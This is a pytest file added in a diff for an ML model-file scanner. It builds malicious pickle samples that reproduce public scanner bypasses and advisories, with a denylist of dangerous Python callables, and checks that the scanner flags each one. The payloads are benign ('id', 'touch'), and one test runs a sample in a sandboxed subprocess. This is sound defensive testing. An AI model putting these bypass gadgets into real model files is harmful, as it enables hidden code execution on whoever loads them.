@@ -1,0 +1,303 @@
+"""One test per public scanner bypass or advisory, named after it. Every sample is assembled from
+bytes (or ``pickle.dumps`` of a ``__reduce__`` object with a harmless payload) and never loaded,
+except in ``test_payloads_are_real`` which runs one in a throwaway subprocess in a temp dir."""
+
+from __future__ import annotations
+
+import io
+import os
+import pickle
+import subprocess
+import sys
+import zipfile
+from pathlib import Path
+
+import pytest
+
+from mlsec.artifact import open_artifact
+from mlsec.scan import ScanReport, scan
+
+from ..unit.scan.samples import Reduce, binbytes, call1, dumps_reduce, glob, proto, s, stack_glob
+
+TOUCH = "touch /tmp/mlsec-should-not-exist"
+
+
+@pytest.fixture
+def check(tmp_path: Path):
+    n = iter(range(10_000))
+
+    def run(data: bytes, name: str = "model.pkl") -> ScanReport:
+        d = tmp_path / f"c{next(n)}"
+        d.mkdir()
+        (d / name).write_bytes(data)
+        return scan(open_artifact(d / name))
+
+    return run
+
+
+def _critical(report: ScanReport) -> bool:
+    return report.max_severity is not None and report.max_severity.value == "critical"
+
+
+def _at_least_high(report: ScanReport) -> bool:
+    return report.max_severity is not None and report.max_severity.rank >= 3
+
+
+# --- classic and renamed-module gadgets -------------------------------------------------------
+
+
+@pytest.mark.parametrize("module", ["os", "posix", "nt"])
+def test_os_system_under_any_module_alias(check, module: str) -> None:
+    assert _critical(check(proto(2, call1(glob(module, "system"), s("id")))))
+
+
+def test_builtins_eval_py2_name(check) -> None:
+    assert _critical(check(b"c__builtin__\neval\n(S'1'\ntR."))
+
+
+# --- modelscan --------------------------------------------------------------------------------
+
+
+def test_modelscan_89_numpy_builtins_dict_get(check) -> None:
+    body = glob("builtins", "dict.get") + glob("numpy", "__builtins__") + b"Vexec\n\x86R"
+    body += b"V__import__('os').system('id')\n\x85R"
+    assert _critical(check(proto(5, body)))
+
+
+def test_modelscan_89_build_monkeypatch_and_attribute_traversal(check) -> None:
+    body = glob("numpy", "prod") + b"N" + glob("numpy", "core._internal.sys.modules") + b"\x86b0"
+    body += glob("numpy", "prod.os.system") + b"Vid\n\x85R"
+    report = check(proto(5, body))
+    assert _critical(report)
+    assert "PICKLE-GLOBAL-MUTATION" in {f.rule for f in report.findings}
+
+
+def test_modelscan_330_getattr_on_allowlisted_object_reaches_builtins(check) -> None:
+    # getattr(collections.OrderedDict, "__init__") → .__globals__ → __builtins__ …
+    body = glob("builtins", "getattr") + glob("collections", "OrderedDict") + s("__init__")
+    body += b"\x86R"
+    report = check(proto(4, body))
+    assert _critical(report)
+    assert "PICKLE-DUNDER-ACCESS" in {f.rule for f in report.findings}
+
+
+def test_modelscan_76_eval_call_attribute(check) -> None:
+    assert _critical(check(proto(2, call1(glob("builtins", "eval.__call__"), s("1")))))
+
+
+def test_modelscan_267_nested_pickle_loads(check) -> None:
+    inner = proto(2, call1(glob("os", "system"), s("id")))
+    report = check(dumps_reduce(pickle.loads, inner))
+    assert _critical(report)
+    # The nested bytes were scanned too: os.system is reported inside the nested member.
+    assert any(
+        f.member and "pickle@" in f.member and f.symbol == "os.system" for f in report.findings
+    )
+
+
+def test_modelscan_269_pandas_read_pickle_remote(check) -> None:
+    body = stack_glob("pandas", "read_pickle") + s("https://example.invalid/x.pkl") + b"\x85R"
+    assert _critical(check(proto(4, body)))
+
+
+def test_modelscan_339_ctypes_signal_http(check) -> None:
+    for mod, name in (
+        ("ctypes", "CDLL"),
+        ("signal", "raise_signal"),
+        ("http.client", "HTTPConnection"),
+    ):
+        assert _critical(check(proto(4, stack_glob(mod, name) + s("x") + b"\x85R"))), mod
+
+
+def test_modelscan_338_360_mlflow_and_pandas_gadgets(check) -> None:
+    for mod, name in (
+        ("mlflow.pyfunc", "load_model"),
+        ("mlflow.utils.file_utils", "write_to"),
+        ("pandas.io.pickle", "read_pickle"),
+        ("pandas.core.computation.eval", "eval"),
+        ("pandas", "eval"),
+    ):
+        assert _critical(check(proto(4, stack_glob(mod, name) + s("x") + b"\x85R"))), mod
+
+
+# --- picklescan advisories --------------------------------------------------------------------
+
+
+def test_picklescan_GHSA_vvpj_8cmc_gx39_pkgutil_resolve_name(check) -> None:
+    # resolve_name("os:system")("id")
+    body = stack_glob("pkgutil", "resolve_name") + s("os:system") + b"\x85R" + s("id") + b"\x85R"
+    report = check(proto(4, body))
+    assert _critical(report)
+    assert "PICKLE-INDIRECT-CALL" in {f.rule for f in report.findings}
+
+
+def test_picklescan_66_importlib_import_module_then_attrgetter(check) -> None:
+    body = stack_glob("operator", "attrgetter") + s("system") + b"\x85R"
+    body += stack_glob("importlib", "import_module") + s("os") + b"\x85R" + b"\x85R"
+    body += s("id") + b"\x85R"
+    assert _critical(check(proto(4, body)))
+
+
+@pytest.mark.parametrize(
+    ("advisory", "module", "name"),
+    [
+        ("GHSA-v7x6-rv5q-mhwc", "timeit", "timeit"),
+        ("GHSA-xp4f-hrf8-rxw7", "ensurepip", "_run_pip"),
+        ("GHSA-9w88-8rmg-7g2p", "cProfile", "runctx"),
+        ("GHSA-x696-vm39-cp64", "profile", "Profile.run"),
+        ("GHSA-5qwp-399c-mjwf", "trace", "Trace.run"),
+        ("GHSA-f54q-57x4-jg88", "lib2to3.pgen2.grammar", "Grammar.loads"),
+        ("GHSA-p9w7-82w4-7q8m", "lib2to3.pgen2.pgen", "ParserGenerator.make_label"),
+        ("GHSA-m869-42cg-3xwr", "idlelib.run", "Executive.runcode"),
+        ("GHSA-3gf5-cxq9-w223", "idlelib.pyshell", "ModifiedInterpreter.runcode"),
+        ("GHSA-fqq6-7vqf-w3fg", "doctest", "debug_script"),
+        ("GHSA-4whj-rm5r-c2v8", "torch.utils.bottleneck.__main__", "run_autograd_prof"),
+        ("GHSA-955r-x9j8-7rhh", "_operator", "attrgetter"),
+        ("GHSA-m273-6v24-x4m4", "operator", "methodcaller"),
+        ("GHSA-84r2-jw7c-4r5q", "_pickle", "loads"),
+        ("GHSA-vqmv-47xg-9wpr", "venv", "create"),
+        ("GHSA-hgrh-qx5j-jfwx", "aiohttp.client", "request"),
+        ("CVE-2025-1716", "pip", "main"),
+        ("CVE-2025-10155", "distutils.file_util", "write_file"),
+        ("CVE-2025-10156", "_io", "FileIO"),
+        ("CVE-2025-10157", "asyncio.unix_events", "_UnixSubprocessTransport"),
+        ("multiprocessing-spawnv_passfds", "multiprocessing.util", "spawnv_passfds"),
+        ("numpy-runstring", "numpy.testing._private.utils", "runstring"),
+        ("torch-collect_env-run", "torch.utils.collect_env", "run"),
+        ("torch-hub-load", "torch.hub", "load"),
+        ("transformers-dynamic-module", "transformers.dynamic_module_utils", "get_class_in_module"),
+        ("pydoc-pipepager", "pydoc", "pipepager"),
+        ("code-interact", "code", "InteractiveInterpreter.runsource"),
+        ("codeop-compile", "codeop", "compile_command"),
+        ("pdb-run", "pdb", "run"),
+        ("webbrowser-open", "webbrowser", "open"),
+        ("shutil-rmtree", "shutil", "rmtree"),
+        ("socket-connect", "socket", "create_connection"),
+        ("sys-modules", "sys", "modules"),
+        ("builtins-breakpoint", "builtins", "breakpoint"),
+        ("builtins-compile", "builtins", "compile"),
+        ("builtins-open", "builtins", "open"),
+        ("builtins-import", "builtins", "__import__"),
+        ("runpy-run_path", "runpy", "run_path"),
+        (
+            "torch-fx-guards",
+            "torch.fx.experimental.symbolic_shapes",
+            "ShapeEnv.evaluate_guards_expression",
+        ),
+        ("torch-inductor-compile", "torch._inductor.codecache", "compile_file"),
+    ],
+)
+def test_picklescan_denylist_advisories(check, advisory: str, module: str, name: str) -> None:
+    for data in (
+        proto(4, stack_glob(module, name) + s("x") + b"\x85R"),
+        proto(2, call1(glob(module, name), s("x"))),
+    ):
+        assert _critical(check(data)), advisory
+
+
+def test_picklescan_22_memo_confusion_stack_global(check) -> None:
+    # Module and name strings reach STACK_GLOBAL through the memo, not straight from the stack.
+    body = s("builtins") + b"q\x00" + s("eval") + b"q\x01" + s("decoy") + b"0"
+    body += b"h\x00h\x01\x93" + s("1") + b"\x85R"
+    assert _critical(check(proto(4, body)))
+
+
+def test_picklescan_GHSA_9gvj_pp9x_gcfr_broken_stream_after_payload(check) -> None:
+    # The payload runs before the loader trips on a broken opcode; scanners that give up lose it.
+    data = proto(2, call1(glob("os", "system"), s("id")) + b"0")[:-1] + b"\xff"
+    report = check(data)
+    assert _critical(report)
+    assert "PICKLE-MALFORMED" in {f.rule for f in report.findings}
+
+
+def test_payload_in_second_stream(check) -> None:
+    data = pickle.dumps({"ok": 1}) + dumps_reduce(os.system, TOUCH)
+    assert _critical(check(data))
+
+
+def test_payload_after_legacy_torch_magic_is_still_scanned(check) -> None:
+    # A forged legacy header followed by a malicious "main" stream: the first 5 streams are read.
+    magic = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
+    data = magic + pickle.dumps(1001, protocol=2) + pickle.dumps({}, protocol=2)
+    data += dumps_reduce(os.system, TOUCH, protocol=2)
+    assert _critical(check(data, "model.pt"))
+
+
+def test_ext_opcodes_are_at_least_high(check) -> None:
+    for op in (b"\x82\x01", b"\x83\x01\x00", b"\x84\x01\x00\x00\x00"):
+        report = check(proto(2, op + s("id") + b"\x85R"))
+        assert _at_least_high(report)
+        assert "PICKLE-EXTENSION-CODE" in {f.rule for f in report.findings}
+
+
+def test_functools_partial_wrapping_a_denied_callable(check) -> None:
+    import functools
+
+    assert _critical(check(pickle.dumps(functools.partial(os.system, TOUCH))))
+    body = stack_glob("functools", "partial") + stack_glob("os", "system") + s("id") + b"\x86R"
+    body += b")R"
+    assert _critical(check(proto(4, body)))
+
+
+def test_inst_and_obj_opcodes(check) -> None:
+    assert _critical(check(b"(S'id'\nios\nsystem\n."))
+    assert _critical(check(b"(" + glob("os", "system") + b"S'id'\no."))
+
+
+def test_newobj_ex_on_denied_class(check) -> None:
+    body = stack_glob("subprocess", "Popen") + s("id") + b"\x85}\x92"
+    assert _critical(check(proto(4, body)))
+
+
+def test_build_sets_dunder_state(check) -> None:
+    body = stack_glob("collections", "OrderedDict") + b")R}" + s("__class__") + b"Nsb"
+    report = check(proto(4, body))
+    assert "PICKLE-DUNDER-STATE" in {f.rule for f in report.findings}
+
+
+def test_computed_stack_global_is_high(check) -> None:
+    body = stack_glob("builtins", "str") + s("os") + b"\x85R" + s("system") + b"\x93"
+    assert _at_least_high(check(proto(4, body)))
+
+
+def test_nested_pickle_in_bytes_protocol0(check) -> None:
+    inner = b"cos\nsystem\n(S'id'\ntR."
+    body = glob("pickle", "loads") + b"(" + binbytes(inner) + b"tR"
+    report = check(proto(3, body))
+    assert any(f.member and f.symbol == "os.system" for f in report.findings)
+
+
+def test_torch_zip_member_pickle_payload(check) -> None:
+    from mlsec.formats import Format
+    from mlsec.scan.registry import analyzer_for
+
+    payload = dumps_reduce(os.system, TOUCH, protocol=2)
+    assert _critical(check(payload, "data.pkl"))
+    if analyzer_for(Format.PYTORCH_ZIP) is None:
+        pytest.skip("the PyTorch-zip analyzer is not on this branch yet")
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w") as zf:
+        zf.writestr("archive/data.pkl", payload)
+        zf.writestr("archive/version", "3\n")
+    assert _critical(check(buf.getvalue(), "model.pt"))
+
+
+def test_npy_object_array_payload(check) -> None:
+    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
+    header += b" " * (63 - (10 + len(header)) % 64) + b"\n"
+    data = b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header
+    data += pickle.dumps([Reduce(os.system, TOUCH)], protocol=3)
+    assert _critical(check(data, "x.npy"))
+
+
+def test_payloads_are_real(tmp_path: Path) -> None:
+    """The memo-confusion sample really runs code when loaded (in a throwaway subprocess)."""
+    marker = tmp_path / "ran"
+    body = s("os") + b"q\x00" + s("system") + b"q\x01" + b"h\x00h\x01\x93"
+    body += s(f"touch {marker}") + b"\x85R"
+    sample = tmp_path / "sample.pkl"
+    sample.write_bytes(proto(4, body))
+    code = f"import pickle; pickle.loads(open({str(sample)!r}, 'rb').read())"
+    subprocess.run([sys.executable, "-c", code], cwd=tmp_path, check=False, timeout=60)
+    assert marker.exists()
+    assert _critical(scan(open_artifact(sample)))
